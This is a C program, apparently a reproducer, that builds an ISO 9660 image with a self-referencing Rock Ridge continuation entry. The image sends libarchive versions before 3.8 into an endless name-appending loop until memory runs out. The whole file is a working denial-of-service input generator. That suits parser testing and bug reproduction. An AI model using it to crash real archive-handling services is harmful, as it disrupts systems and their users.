/* mkceloop: writes FILE, an ISO 9660 image whose one file's Rock Ridge
 * continuation area (SUSP "CE") ends with a CE pointing back at itself and
 * holds an NM entry marked "continued". A reader that follows the loop
 * appends the name to itself for ever: libarchive before 3.8 does, until
 * an allocation fails and it calls exit(1) "Out of memory", the shape of
 * its own test file test_read_format_iso_rockridge_ce_loop.iso.Z.
 * Usage: mkceloop FILE */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <archive.h>
#include <archive_entry.h>

#define BLOCK	2048
#define CE_LEN	28

static uint32_t
le32(const unsigned char *p)
{
	return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

/* A both-endian 32-bit field of ISO 9660 (7.3.3). */
static void
both32(unsigned char *p, uint32_t v)
{
	int i;

	for (i = 0; i < 4; i++) {
		p[i] = (unsigned char)(v >> (8 * i));
		p[7 - i] = (unsigned char)(v >> (8 * i));
	}
}

int
main(int argc, char **argv)
{
	static unsigned char img[1 << 20];
	char name[201];
	struct archive *a;
	struct archive_entry *e;
	size_t used = 0, i;
	uint32_t blk, off, len;
	unsigned char *ce, *area;
	FILE *f;

	if (argc != 2) {
		fprintf(stderr, "usage: mkceloop FILE\n");
		return 2;
	}
	/* A name too long for its directory record: the rest of its NM goes
	 * to a continuation area. */
	memset(name, 'n', sizeof name - 1);
	name[sizeof name - 1] = '\0';
	a = archive_write_new();
	e = archive_entry_new();
	if (a == NULL || e == NULL || archive_write_set_format_iso9660(a) != ARCHIVE_OK ||
	    archive_write_open_memory(a, img, sizeof img, &used) != ARCHIVE_OK)
		goto fail;
	archive_entry_set_pathname(e, name);
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_perm(e, 0644);
	archive_entry_set_size(e, 3);
	if (archive_write_header(a, e) != ARCHIVE_OK || archive_write_data(a, "hi\n", 3) != 3 ||
	    archive_write_close(a) != ARCHIVE_OK)
		goto fail;
	archive_entry_free(e);
	archive_write_free(a);

	/* The file's CE: the one whose area starts with its NM. */
	for (i = 0; i + CE_LEN <= used; i++) {
		ce = img + i;
		if (memcmp(ce, "CE\x1c\x01", 4) != 0)
			continue;
		blk = le32(ce + 4), off = le32(ce + 12), len = le32(ce + 20);
		if ((uint64_t)blk * BLOCK + off + len + CE_LEN > used || off + len + CE_LEN > BLOCK)
			continue;
		area = img + (size_t)blk * BLOCK + off;
		if (memcmp(area, "NM", 2) != 0)
			continue;
		area[4] = 1;	/* NM flags: the name continues */
		memcpy(area + len, "CE\x1c\x01", 4);
		both32(area + len + 4, blk);
		both32(area + len + 12, off);
		both32(area + len + 20, len + CE_LEN);
		both32(ce + 20, len + CE_LEN);
		if ((f = fopen(argv[1], "wb")) == NULL || fwrite(img, 1, used, f) != used ||
		    fclose(f) != 0) {
			perror(argv[1]);
			return 1;
		}
		return 0;
	}
	fprintf(stderr, "mkceloop: no continuation area to loop\n");
	return 1;
fail:
	fprintf(stderr, "mkceloop: %s\n", a ? archive_error_string(a) : "out of memory");
	return 1;
}
